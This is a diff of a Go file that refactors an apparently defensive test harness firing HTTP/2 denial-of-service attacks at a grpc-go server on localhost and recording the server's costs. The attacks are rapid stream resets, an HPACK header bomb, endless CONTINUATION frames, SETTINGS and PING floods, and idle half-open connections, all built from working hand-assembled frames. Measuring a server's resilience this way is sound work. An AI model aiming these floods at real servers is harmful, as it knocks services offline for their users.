@@ -1,6 +1,6 @@
 //go:build linux
 
-package main
+package attack
 
 import (
 	"encoding/binary"
@@ -11,62 +11,62 @@ import (
 )
 
 // Attacks of clients that speak HTTP/2. grpc-go reads what they send.
-var http2Attacks = []*attack{
+var http2Attacks = []*Attack{
 	{
-		name: "http2-reset", path: overTCP, full: 1_000_000, short: 50_000,
-		what:   "%s calls of HTTP/2 opened and reset",
-		before: "not measured",
-		known:  &excuse{cpu: 2000, why: "a call takes grpc-go some 10 µs, as an honest one does, and the attacker only writes prepared bytes"},
-		run:    func(a *attacker) error { return a.http2OpenAndReset("HalfDuplexCall") },
+		Name: "http2-reset", Path: overTCP, Full: 1_000_000, Short: 50_000,
+		What:   "%s calls of HTTP/2 opened and reset",
+		Before: "not measured",
+		Known:  &Excuse{CPU: 2000, Why: "a call takes grpc-go some 10 µs, as an honest one does, and the attacker only writes prepared bytes"},
+		Run:    func(a *Attacker) error { return a.http2OpenAndReset("HalfDuplexCall") },
 	},
 	{
-		name: "http2-reset-busy", path: overTCP, full: 1_000_000, short: 50_000,
-		what:   "%s calls of HTTP/2 opened and reset whose handlers take 2 s",
-		before: "not measured",
-		known:  &excuse{cpu: 2000, why: "as above; grpc-go reads no further while 1,000 handlers run"},
-		run:    func(a *attacker) error { return a.http2OpenAndReset("StreamingInputCall") },
+		Name: "http2-reset-busy", Path: overTCP, Full: 1_000_000, Short: 50_000,
+		What:   "%s calls of HTTP/2 opened and reset whose handlers take 2 s",
+		Before: "not measured",
+		Known:  &Excuse{CPU: 2000, Why: "as above; grpc-go reads no further while 1,000 handlers run"},
+		Run:    func(a *Attacker) error { return a.http2OpenAndReset("StreamingInputCall") },
 	},
 	{
-		name: "http2-bomb", path: overTCP, full: 990, short: 500,
-		what:   "%s calls of HTTP/2, left open, whose headers repeat an entry of 4 kB 15 times",
-		before: "843 MB for 50 calls, with grpc-go's limit of 16 MiB",
-		known:  &excuse{each: 128 << 10, cpu: 4000, why: "grpc-go decodes up to MaxHeaderListSize of each header, by default 64 KiB: for a connection 64 MiB, as of unread messages"},
-		run:    headerBomb,
+		Name: "http2-bomb", Path: overTCP, Full: 990, Short: 500,
+		What:   "%s calls of HTTP/2, left open, whose headers repeat an entry of 4 kB 15 times",
+		Before: "843 MB for 50 calls, with grpc-go's limit of 16 MiB",
+		Known:  &Excuse{Each: 128 << 10, CPU: 4000, Why: "grpc-go decodes up to MaxHeaderListSize of each header, by default 64 KiB: for a connection 64 MiB, as of unread messages"},
+		Run:    headerBomb,
 	},
 	{
-		name: "http2-continuation", path: overTCP, full: 50, short: 10,
-		what:   "%s connections of HTTP/2 whose headers do not end: 16 MiB in CONTINUATION frames",
-		before: "not measured",
-		known:  &excuse{cpu: 30, why: "grpc-go decodes what it discards, and the attacker only writes prepared bytes"},
-		run:    continuations,
+		Name: "http2-continuation", Path: overTCP, Full: 50, Short: 10,
+		What:   "%s connections of HTTP/2 whose headers do not end: 16 MiB in CONTINUATION frames",
+		Before: "not measured",
+		Known:  &Excuse{CPU: 30, Why: "grpc-go decodes what it discards, and the attacker only writes prepared bytes"},
+		Run:    continuations,
 	},
 	{
-		name: "http2-settings", path: overTCP, full: 2_000_000, short: 500_000,
-		what:   "%s empty SETTINGS of HTTP/2",
-		before: "not measured",
-		known:  &excuse{cpu: 60, why: "grpc-go answers each, in some 400 ns, and the attacker only writes prepared bytes"},
-		run:    func(a *attacker) error { return a.http2Flood(a.count, frameSettings, 0) },
+		Name: "http2-settings", Path: overTCP, Full: 2_000_000, Short: 500_000,
+		What:   "%s empty SETTINGS of HTTP/2",
+		Before: "not measured",
+		Known:  &Excuse{CPU: 60, Why: "grpc-go answers each, in some 400 ns, and the attacker only writes prepared bytes"},
+		Run:    func(a *Attacker) error { return a.http2Flood(a.Count, frameSettings, 0) },
 	},
 	{
-		name: "http2-pings", path: overTCP, full: 20, short: 20,
-		what:   "%s connections of HTTP/2 with 65,536 PINGs each",
-		before: "not measured",
-		known:  &excuse{cpu: 100, why: "grpc-go hangs up on a client with too many PINGs, and may read for another second"},
-		run:    pings,
+		Name: "http2-pings", Path: overTCP, Full: 20, Short: 20,
+		What:   "%s connections of HTTP/2 with 65,536 PINGs each",
+		Before: "not measured",
+		Known:  &Excuse{CPU: 100, Why: "grpc-go hangs up on a client with too many PINGs, and may read for another second"},
+		Run:    pings,
 	},
 	{
-		name: "http2-preface", path: overTCP, full: 5_000, short: 500,
-		what:   "%s connections that send a half of the preface of HTTP/2 and no more",
-		before: "not measured",
-		known:  &excuse{each: 24 << 10, why: "a connection takes some 7 kB of itself; how many there are is for the listener to limit"},
-		run:    func(a *attacker) error { return a.silent(preface[:12]) },
+		Name: "http2-preface", Path: overTCP, Full: 5_000, Short: 500,
+		What:   "%s connections that send a half of the preface of HTTP/2 and no more",
+		Before: "not measured",
+		Known:  &Excuse{Each: 24 << 10, Why: "a connection takes some 7 kB of itself; how many there are is for the listener to limit"},
+		Run:    func(a *Attacker) error { return a.silent(preface[:12]) },
 	},
 	{
-		name: "http2-idle", path: overTCP, full: 5_000, short: 500,
-		what:   "%s connections that send the preface and the settings of HTTP/2 and no more",
-		before: "not measured",
-		known:  &excuse{each: 64 << 10, why: "a connection takes grpc-go some 20 kB; how many there are is for the listener to limit"},
-		run: func(a *attacker) error {
+		Name: "http2-idle", Path: overTCP, Full: 5_000, Short: 500,
+		What:   "%s connections that send the preface and the settings of HTTP/2 and no more",
+		Before: "not measured",
+		Known:  &Excuse{Each: 64 << 10, Why: "a connection takes grpc-go some 20 kB; how many there are is for the listener to limit"},
+		Run: func(a *Attacker) error {
 			return a.silent(string(http2Frame([]byte(preface), frameSettings, 0, 0, "")))
 		},
 	},
@@ -114,7 +114,7 @@ func fields(method string) string {
 
 // enterHTTP2 connects, makes an ordinary call, and from then on reads and discards
 // everything. The call shows that the attack's frames follow the protocol.
-func (a *attacker) enterHTTP2() (*http2Peer, error) {
+func (a *Attacker) enterHTTP2() (*http2Peer, error) {
 	inner, err := a.dial(overTCP)
 	if err != nil {
 		return nil, err
@@ -149,14 +149,14 @@ func (p *http2Peer) open(b []byte, block string) []byte {
 	return http2Frame(b, frameHeaders, flagEndHeaders, p.stream, block)
 }
 
-func (a *attacker) http2OpenAndReset(method string) error {
+func (a *Attacker) http2OpenAndReset(method string) error {
 	p, err := a.enterHTTP2()
 	if err != nil {
 		return err
 	}
 	// The first call adds the path, the authority and the content type to the table.
 	block := "\x83\x86\x44" + hpackText(methods+method) + "\x41" + hpackText("localhost") + "\x5f" + hpackText("application/grpc")
-	return p.repeat(a.count, func(b []byte) []byte {
+	return p.repeat(a.Count, func(b []byte) []byte {
 		b = p.open(b, block)
 		block = "\x83\x86\xc0\xbf\xbe"
 		return http2Frame(b, frameReset, 0, p.stream, "\x00\x00\x00\x08")
@@ -166,7 +166,7 @@ func (a *attacker) http2OpenAndReset(method string) error {
 // headerBomb adds an entry to the table, to which each call then refers with single bytes.
 // The value is binary, so that the server decodes it each time. A header with more of them
 // is refused.
-func headerBomb(a *attacker) error {
+func headerBomb(a *Attacker) error {
 	p, err := a.enterHTTP2()
 	if err != nil {
 		return err
@@ -176,12 +176,12 @@ func headerBomb(a *attacker) error {
 	if err := p.write(p.open(nil, first)); err != nil {
 		return err
 	}
-	return p.repeat(a.count, func(b []byte) []byte { return p.open(b, block+strings.Repeat("\xbe", 15)) })
+	return p.repeat(a.Count, func(b []byte) []byte { return p.open(b, block+strings.Repeat("\xbe", 15)) })
 }
 
-func continuations(a *attacker) error {
+func continuations(a *Attacker) error {
 	part := strings.Repeat("\x00"+hpackText("key")+hpackText(strings.Repeat("x", 250)), largestFrame/258)
-	for range a.count {
+	for range a.Count {
 		p, err := a.enterHTTP2()
 		if err != nil {
 			return err
@@ -200,7 +200,7 @@ func continuations(a *attacker) error {
 
 // http2Flood sends n small frames on a connection, and reads the answers. The server may
 // hang up.
-func (a *attacker) http2Flood(n int, kind byte, size int) error {
+func (a *Attacker) http2Flood(n int, kind byte, size int) error {
 	p, err := a.enterHTTP2()
 	if err != nil {
 		return err
@@ -213,8 +213,8 @@ func (a *attacker) http2Flood(n int, kind byte, size int) error {
 	return err
 }
 
-func pings(a *attacker) error {
-	for range a.count {
+func pings(a *Attacker) error {
+	for range a.Count {
 		if err := a.http2Flood(1<<16, framePing, 8); err != nil {
 			return err
 		}
@@ -227,9 +227,9 @@ func hungUp(err error) bool {
 	return errors.Is(err, syscall.EPIPE) || errors.Is(err, syscall.ECONNRESET)
 }
 
-// silent opens a.count connections and sends b on each.
-func (a *attacker) silent(b string) error {
-	for range a.count {
+// silent opens a.Count connections and sends b on each.
+func (a *Attacker) silent(b string) error {
+	for range a.Count {
 		p, err := a.dial(overTCP)
 		if err != nil {
 			return err
